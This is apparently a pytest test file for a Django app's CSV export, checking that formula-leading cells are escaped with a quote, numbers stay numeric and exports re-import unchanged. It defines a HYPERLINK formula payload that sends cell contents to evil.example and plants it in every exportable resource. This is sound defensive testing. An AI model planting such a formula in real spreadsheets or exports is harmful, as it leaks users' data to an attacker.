"""CSV exports neutralise cells a spreadsheet would run as formulas (a leading
quote, as OWASP recommends), keep numbers numbers, and an export re-imported
untouched gives back every value unchanged."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.db import models
from django.urls import get_resolver, reverse

from devzone.core.exporting import csv_safe, write_csv
from devzone.core.importing import read_table
from devzone.core.models import CalendarDay, User
from devzone.core.resources import _registry

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_formula_cells_are_neutralised_and_numbers_kept():
    row = ["=1+2", "+86 138", "-x", "@SUM(A1)", "\tx", "\rx", "普通", -3.2, Decimal("-3.2"), "-3.2"]
    text = write_csv(["h"] * len(row), [row]).decode("utf-8-sig")
    cells = list(csv.reader(io.StringIO(text)))[1]
    assert cells == ["'=1+2", "'+86 138", "'-x", "'@SUM(A1)", "'\tx", "'\rx", "普通"] + ["-3.2"] * 3


@pytest.mark.parametrize(
    "value",
    ["=1+2", "-x", "+1 (555)", "@A1", "'=x", "''x", "'x", "-3.2", "普通文本", "'", "-", "="],
)
def test_an_exported_value_reads_back_unchanged(value):
    headers, rows = read_table("export.csv", write_csv(["名称", "备注"], [[value, "x"]]))
    assert rows == [[value, "x"]]
    assert csv_safe(-3.2) == -3.2


def _text_column(resource):
    """An exported column showing a plain text field, not masked."""
    for column in resource.export_columns():
        if callable(column.accessor) or column.personal:
            continue
        path = column.accessor or column.name
        if "." in path:
            continue
        field = next((f for f in resource.model._meta.fields if f.name == path), None)
        if isinstance(field, models.CharField | models.TextField) and not field.choices:
            return column, field
    return None, None


@pytest.mark.django_db
def test_every_resources_csv_export_neutralises_a_planted_formula(demo_database, client, settings):
    settings.BACKGROUND_ROWS_THRESHOLD = 100_000  # every export answered at once
    assert get_resolver().url_patterns  # every app's resources register with its URLs
    admin = User.objects.get(username="admin")
    client.force_login(admin)
    CalendarDay.objects.create(day=dt.date(2031, 1, 1), working=False, name="元旦")
    checked, no_text = [], []
    for name, resource in sorted(_registry.items()):
        column, field = _text_column(resource)
        if column is None:
            no_text.append(name)
            continue
        obj = resource.base_queryset(admin).order_by("pk").first()
        if obj is None and resource.model.__name__ == "NoticeFeedback":
            from devzone.projects.models import NoticeFeedback, Project

            obj = NoticeFeedback.objects.create(project=Project.objects.first(), message="好")
        assert obj is not None, f"{name}: no record to plant a formula in"
        planted = FORMULA[: field.max_length or len(FORMULA)]
        # Planted past the forms, as stored data from any source may be.
        resource.model.objects.filter(pk=obj.pk).update(**{field.name: planted})
        response = client.get(reverse(resource.url_name("export")) + "?format=csv")
        assert response.status_code == 200, name
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert "'" + planted in cells, name
        assert not any(cell.startswith(("=", "@")) for cell in cells), name
        checked.append(name)
    # Only resources without any text column escape the check.
    assert set(no_text) <= {
        "core:chain-members",
        "projects:dependencies",
        "desk:escalations",
        "desk:follow-ups",
        "projects:investments",
        "stats:targets",
    }, no_text
    assert len(checked) >= 20
